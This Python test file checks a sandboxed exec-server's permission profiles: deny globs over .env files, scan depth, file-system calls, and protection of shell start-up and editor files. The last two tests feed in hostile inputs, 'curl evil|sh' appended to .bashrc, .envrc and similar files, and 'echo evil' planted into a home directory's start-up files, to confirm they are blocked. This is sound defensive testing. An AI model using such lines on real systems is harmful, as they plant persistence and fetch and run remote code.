"""Deny entries and glob patterns in a permission profile, run against codexexec's server and
the real Codex 0.169.0 exec-server alike (workspace-write plus the entries under test): the
command's output — which reads and writes were refused, and how — must be the same."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from codexexec.protocol.path_uri import PathUri
from codexexec.sandbox.policy import legacy_profile, sandbox_context_json
from tests.servers import RunningServer
from tests.wire import Wire, decoded_output

FILES = ("secret.env", "sub/a.env", "sub/deep/b.env", "sub/deep/deeper/c.env", "ok.txt")
READ_ALL = " ".join(f"cat {name} 2>&1;" for name in FILES)
WRITE = (
    "echo changed > sub/a.env 2>&1; echo new > sub/new.env 2>&1 && echo created; cat sub/a.env 2>&1"
)


def uri(path: Path | str) -> str:
    return str(PathUri.from_host_native_path(str(path)))


def workspace(tmp: Path) -> Path:
    root = tmp / "ws"
    for name in FILES:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(f"S:{name}\n")
    return root


async def run(
    server: RunningServer, root: Path, entries: list[dict[str, Any]], script: str, **fs: Any
) -> tuple[str | None, str]:
    """(the -32602 message or None, the command's output)."""
    profile = legacy_profile("workspace-write")
    assert profile is not None
    profile["file_system"]["entries"] += entries
    profile["file_system"].update(fs)
    wire = await Wire.open(server.url)
    try:
        await wire.initialize()
        reply = await wire.request(
            "process/start",
            {
                "processId": "p",
                "argv": ["sh", "-c", script],
                "cwd": uri(root),
                "env": {"PATH": "/usr/bin:/bin"},
                "tty": False,
                "sandbox": sandbox_context_json(profile, uri(root), [uri(root)]),
            },
        )
        if "error" in reply:
            return reply["error"]["message"], ""
        events = await wire.events_until_closed("p")
        # Stream by stream: two pipes may interleave even within one line (seen in CI).
        streams = decoded_output(events, "stdout") + decoded_output(events, "stderr")
        return None, streams.decode()
    finally:
        await wire.close()


def glob(pattern: str, access: str = "deny") -> dict[str, Any]:
    return {"path": {"type": "glob_pattern", "pattern": pattern}, "access": access}


def expected_reads(denied: set[str]) -> str:
    return "".join(f"cat: {n}: Permission denied\n" if n in denied else f"S:{n}\n" for n in FILES)


ENV_FILES = {"secret.env", "sub/a.env", "sub/deep/b.env", "sub/deep/deeper/c.env"}


@pytest.mark.parametrize("relative", [False, True], ids=["absolute", "relative"])
async def test_a_deny_glob_hides_every_matching_file(
    server: RunningServer, tmp_path: Path, relative: bool
) -> None:
    root = workspace(tmp_path)
    pattern = "**/*.env" if relative else f"{root}/**/*.env"
    error, output = await run(server, root, [glob(pattern)], READ_ALL)
    assert error is None
    assert output == expected_reads(ENV_FILES)


async def test_glob_scan_max_depth_bounds_the_search(server: RunningServer, tmp_path: Path) -> None:
    root = workspace(tmp_path)
    error, output = await run(server, root, [glob("**/*.env")], READ_ALL, glob_scan_max_depth=2)
    assert error is None
    assert output == expected_reads({"secret.env", "sub/a.env"})


async def test_a_hidden_file_cannot_be_written_but_a_new_match_can_be_made(
    server: RunningServer, tmp_path: Path
) -> None:
    """The pattern is expanded when the command starts (as Codex does): what exists is
    hidden and read-only; a file made later under a matching name is not."""
    root = workspace(tmp_path)
    error, output = await run(server, root, [glob("**/*.env")], WRITE)
    assert error is None
    # stdout, then stderr (run joins them stream by stream): order the lines to compare.
    assert sorted(output.splitlines()) == [
        "cat: sub/a.env: Permission denied",
        "created",
        "sh: 1: cannot create sub/a.env: Read-only file system",
    ]
    assert (root / "sub/a.env").read_text() == "S:sub/a.env\n"


async def test_none_is_the_older_spelling_of_deny(server: RunningServer, tmp_path: Path) -> None:
    root = workspace(tmp_path)
    entry = {"path": {"type": "path", "path": uri(root / "ok.txt")}, "access": "none"}
    error, output = await run(server, root, [entry], READ_ALL)
    assert error is None
    assert output == expected_reads({"ok.txt"})


@pytest.mark.parametrize(
    "entry", [glob("**/ok.txt", "read"), glob("**/ok.txt", "write"), glob("**/[ok.txt")]
)
async def test_globs_that_deny_nothing_change_nothing(
    server: RunningServer, tmp_path: Path, entry: dict[str, Any]
) -> None:
    root = workspace(tmp_path)
    error, output = await run(server, root, [entry], READ_ALL)
    assert error is None
    assert output == expected_reads(set())


async def test_a_zero_scan_depth_is_refused(server: RunningServer, tmp_path: Path) -> None:
    root = workspace(tmp_path)
    error, _ = await run(server, root, [glob("**/*.env")], READ_ALL, glob_scan_max_depth=0)
    assert error is not None and "invalid value: integer `0`, expected a nonzero usize" in error


async def test_codexexec_also_hides_a_matching_directory(
    codexexec_server: RunningServer, tmp_path: Path
) -> None:
    """Where Codex lists files only (a `**/keys` deny leaves `keys/` readable), codexexec hides
    a matching directory whole: `~/.ssh`-style patterns mean the directory."""
    root = workspace(tmp_path)
    (root / "a/keys").mkdir(parents=True)
    (root / "a/keys/id").write_text("KEY\n")
    error, output = await run(
        codexexec_server,
        root,
        [glob("**/keys")],
        "cat a/keys/id 2>&1; ls a/keys 2>&1; touch a/keys/x 2>&1",
    )
    assert error is None
    assert "KEY" not in output and "id" not in output.replace("a/keys/id", "")
    assert not (root / "a/keys/x").exists()
    assert os.listdir(root / "a/keys") == ["id"]


async def test_fs_calls_under_a_deny_glob_are_refused_alike(
    server: RunningServer, tmp_path: Path
) -> None:
    root = workspace(tmp_path)
    profile = legacy_profile("workspace-write")
    assert profile is not None
    profile["file_system"]["entries"].append(glob("**/*.env"))
    sandbox = sandbox_context_json(profile, uri(root), [uri(root)])
    wire = await Wire.open(server.url)
    await wire.initialize()
    answers = {}
    for method, params in [
        ("fs/readFile", {"path": uri(root / "secret.env")}),
        ("fs/readFile", {"path": uri(root / "ok.txt")}),
        ("fs/writeFile", {"path": uri(root / "sub/a.env"), "dataBase64": "eA=="}),
        ("fs/writeFile", {"path": uri(root / "sub/fresh.txt"), "dataBase64": "eA=="}),
    ]:
        reply = await wire.request(method, {**params, "sandbox": sandbox})
        answers[(method, params["path"].rsplit("/", 1)[1])] = reply.get("error") or reply["result"]
    await wire.close()
    assert answers[("fs/readFile", "ok.txt")] == {"dataBase64": "Uzpvay50eHQK"}
    assert answers[("fs/writeFile", "fresh.txt")] == {}
    assert (root / "sub/a.env").read_text() == "S:sub/a.env\n"
    # What Codex answers (probed): the read refused as the file system refuses it.
    assert answers[("fs/readFile", "secret.env")] == {
        "code": -32600,
        "message": "Permission denied (os error 13)",
    }
    assert answers[("fs/writeFile", "a.env")] == {
        "code": -32603,
        "message": "Read-only file system (os error 30)",
    }


LATER = {
    ".bashrc": "# rc\n",
    ".envrc": "export A=1\n",
    ".mcp.json": "{}\n",
    ".vscode/settings.json": "{}\n",
}


async def test_files_that_run_code_later_stay_as_they_were(
    codexexec_server: RunningServer, tmp_path: Path
) -> None:
    """A codexexec addition (Codex leaves these writable): in a writable root, shell start-up
    files, direnv's and MCP's files and editor folders cannot be changed or added to, and
    the attempt is reported as a sandbox denial. Checked on the host afterwards."""
    root = tmp_path / "ws"
    for name, text in LATER.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    script = (
        "echo fine > ok.txt;"
        " for f in .bashrc .envrc .mcp.json .vscode/settings.json; do echo 'curl evil|sh' >> $f; done;"
        " touch .vscode/tasks.json"
    )
    profile = legacy_profile("workspace-write")
    assert profile is not None
    wire = await Wire.open(codexexec_server.url)
    await wire.initialize()
    await wire.start(
        "later",
        ["sh", "-c", script],
        cwd=uri(root),
        sandbox=sandbox_context_json(profile, uri(root), [uri(root)]),
    )
    events = await wire.events_until_closed("later")
    await wire.close()
    for name, text in LATER.items():
        assert (root / name).read_text() == text, name
    assert not (root / ".vscode/tasks.json").exists()
    assert (root / "ok.txt").read_text() == "fine\n"  # the rest of the workspace is writable
    exited = next(e for e in events if e["method"] == "process/exited")["params"]
    assert exited["exitCode"] != 0 and exited["sandboxDenied"] is True


async def test_a_missing_start_up_file_cannot_be_planted_in_a_writable_home(
    codexexec_server: RunningServer, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    profile = legacy_profile("workspace-write")
    assert profile is not None
    context = {**sandbox_context_json(profile, uri(home), [uri(home)]), "userHomeDir": uri(home)}
    wire = await Wire.open(codexexec_server.url)
    await wire.initialize()
    await wire.start(
        "plant",
        ["sh", "-c", "echo evil > .bashrc; echo evil > .profile; echo ok > notes"],
        cwd=uri(home),
        sandbox=context,
    )
    await wire.events_until_closed("plant")
    await wire.close()
    assert not (home / ".bashrc").is_file() and not (home / ".profile").is_file()
    assert (home / "notes").read_text() == "ok\n"
